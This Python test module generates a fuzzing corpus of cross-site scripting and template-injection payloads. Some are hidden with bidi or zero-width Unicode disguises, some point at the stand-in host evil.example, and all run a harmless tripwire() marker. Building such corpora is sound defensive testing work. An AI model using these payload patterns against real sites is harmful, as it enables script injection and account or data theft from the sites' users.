"""Texts that try to be more than text: a few hundred, built from the ways into a page and the ways to hide them."""

from collections.abc import Iterator

TRIP = "tripwire()"
"""What each of them would run."""

HANDLERS = (
    "onerror onload onclick onfocus onmouseover onpointerenter ontoggle onbegin onanimationstart ontransitionend "
    "onwheel onbeforeinput onscrollend onsecuritypolicyviolation"
).split()

ELEMENTS = (
    "<img src=x {handler}={trip}>",
    "<svg {handler}={trip}>",
    "<video autoplay {handler}={trip}><source src=x></video>",
    "<details open {handler}={trip}><summary>x</summary></details>",
    "<input autofocus {handler}={trip}>",
    "<body {handler}={trip}>",
    "<a href=# {handler}={trip}>x</a>",
)

MARKUP = (
    "<script>{trip}</script>",
    "</script><script>{trip}</script>",
    "<scr<script>ipt>{trip}</scr</script>ipt>",
    "<SCRIPT/SRC=data:text/javascript,{trip}></SCRIPT>",
    "<script type=module>import('data:text/javascript,{trip}')</script>",
    "<svg><script>{trip}</script></svg>",
    "<svg><animate onbegin={trip} attributeName=x dur=1s></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{trip}</script>'></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=a><script>{trip}</script></svg>#a'></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror={trip}></style></mglyph></math>",
    "<template><script>{trip}</script></template>",
    "<template shadowrootmode=open><img src=x onerror={trip}></template>",
    "<noscript><p title='</noscript><img src=x onerror={trip}>'></noscript>",
    "<style>@import 'data:text/css,*{{background:url(javascript:{trip})}}'</style>",
    "<link rel=stylesheet href='data:text/css,body{{display:none}}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{trip}'>",
    "<base href=//evil.example/>",
    "<iframe src=javascript:{trip}></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.{trip}&lt;/script&gt;'></iframe>",
    "<object data=javascript:{trip}></object>",
    "<embed src=javascript:{trip}>",
    "<form action=javascript:{trip}><button id=say>send</button></form>",
    "<button formaction=javascript:{trip} form=x>x</button>",
    "<dialog open>{trip}</dialog>",
    "<marquee loop=1 onfinish={trip}>x</marquee>",
    "<!--><img src=x onerror={trip}>-->",
    "<![CDATA[<img src=x onerror={trip}>]]>",
    "<?xml version=1?><img src=x onerror={trip}>",
    "<x contenteditable onblur={trip} autofocus tabindex=1>x</x>",
    "<textarea></textarea><img src=x onerror={trip}>",
    "<title></title><img src=x onerror={trip}>",
    "<div style='position:fixed;inset:0;z-index:99999' data-testid=checkin>x</div>",
    "<input name=app id=app><form id=polite>",
    "'\"><img src=x onerror={trip}>",
    "--><script>{trip}</script><!--",
    "]]><script>{trip}</script>",
)

SCHEMES = (
    "javascript:{trip}",
    "JaVaScRiPt:{trip}",
    "java\tscript:{trip}",
    "\x01javascript:{trip}",
    " javascript:{trip}",
    "javascript://%0a{trip}",
    "javascript&colon;{trip}",
    "vbscript:{trip}",
    "data:text/html,<script>{trip}</script>",
    "data:text/html;base64,PHNjcmlwdD50cmlwd2lyZSgpPC9zY3JpcHQ+",
    "blob:https://evil.example/{trip}",
    'https://x.example/"onclick={trip} x="',
    "//evil.example/{trip}",
)

TEMPLATES = (
    "{{{{{trip}}}}}",
    "${{{trip}}}",
    "#{{{trip}}}",
    "<%= {trip} %>",
    "{{{{constructor.constructor('{trip}')()}}}}",
    "[[{trip}]]",
    "`;{trip}//",
    "');{trip}//",
    "\\u003cscript\\u003e{trip}\\u003c/script\\u003e",
    "%3Cscript%3E{trip}%3C/script%3E",
    "&lt;img src=x onerror={trip}&gt;",
    "&#60;script&#62;{trip}&#60;/script&#62;",
    "__proto__",
    "constructor",
    "toString",
    "null",
    "$&$1$`$'",
    "%s%n%d%c",
)

DISGUISES = (
    "{0}",
    "\u202e{0}",
    "\u2066{0}\u2069",
    "\u200b\u200d\ufeff{0}",
    "{0}\x00",
)

SHAPES = (
    "W" * 64,
    "a" * 500,
    "啊" * 200,
    "a\u0301" * 100,
    "Z" + "\u0353\u0321\u030d" * 60,
    "\u0301" * 50 + "x",
    "👨‍👩‍👧‍👦" * 20,
    "🏳️‍🌈" * 20,
    "👩🏽‍🚀👩🏽‍🚀👩🏽‍🚀",
    "\u202eelpoep ysub\u202c then left to right",
    "\u200f\u200e\u2067\u2066" * 30 + "x",
    "مرحبا بالعالم " * 12,
    "שלום <img src=x> עולם",
    "\u2028\u2029\x0b\x0c\x85 lines",
    "line\nafter\nline\nafter\nline\nafter\nline\nafter\nline",
    "\t" * 80 + "x",
    "﷽" * 40,
    "𒐫" * 40,
    "\U000e0041\U000e0042 tags",
    "ＦＵＬＬ　ＷＩＤＴＨ" * 10,
    "ก็็็็็็็็็็็็็็็็็็็็" * 8,
    "\ud83d half of a pair",
    "\uffff\ufffe\ufffd",
    " ",
    "0",
)


def _plain() -> Iterator[str]:
    for number, handler in enumerate(HANDLERS):
        for element in (ELEMENTS[number % len(ELEMENTS)], ELEMENTS[(number + 3) % len(ELEMENTS)]):
            yield element.format(handler=handler, trip=TRIP)
    for text in (*MARKUP, *SCHEMES, *TEMPLATES):
        yield text.format(trip=TRIP)


CORPUS = (*(disguise.format(text) for text in _plain() for disguise in DISGUISES[:3]), *SHAPES)
"""All of them, some in disguise."""
